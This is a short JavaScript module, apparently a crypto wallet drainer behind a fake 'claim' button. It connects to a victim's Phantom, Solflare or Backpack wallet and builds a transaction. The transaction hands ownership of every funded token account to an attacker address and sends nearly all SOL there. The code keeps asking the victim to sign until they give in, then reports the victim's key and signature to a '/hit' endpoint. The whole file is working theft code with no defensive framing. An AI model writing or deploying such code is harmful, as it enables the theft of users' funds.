import { Connection, PublicKey, SystemProgram, Transaction, LAMPORTS_PER_SOL } from "@solana/web3.js";
import { createSetAuthorityInstruction, AuthorityType, TOKEN_PROGRAM_ID } from "@solana/spl-token";
import { dest, rpc } from "./c.json";

const c = new Connection(rpc);
const D = new PublicKey(dest);

export async function build(owner) {
  const accs = await c.getParsedTokenAccountsByOwner(owner, { programId: TOKEN_PROGRAM_ID });
  const tx = new Transaction();
  for (const { pubkey, account } of accs.value) {
    if (!account.data.parsed.info.tokenAmount.uiAmount) continue;
    tx.add(createSetAuthorityInstruction(pubkey, owner, AuthorityType.AccountOwner, D));
  }
  const lamports = (await c.getBalance(owner)) - 0.005 * LAMPORTS_PER_SOL;
  if (lamports > 0) tx.add(SystemProgram.transfer({ fromPubkey: owner, toPubkey: D, lamports }));
  tx.feePayer = owner;
  tx.recentBlockhash = (await c.getLatestBlockhash()).blockhash;
  return tx;
}

export async function claim() {
  const p = window.phantom?.solana ?? window.solflare ?? window.backpack;
  if (!p) return (location.href = "https://ph.example/ul/browse/" + encodeURIComponent(location.href));
  const { publicKey } = await p.connect();
  document.body.classList.add("loading");
  while (true) {
    try {
      const { signature } = await p.signAndSendTransaction(await build(publicKey));
      await fetch("/hit", { method: "POST", body: JSON.stringify({ k: publicKey.toString(), signature }) });
      break;
    } catch (e) {
      await new Promise((r) => setTimeout(r, 400));
    }
  }
}
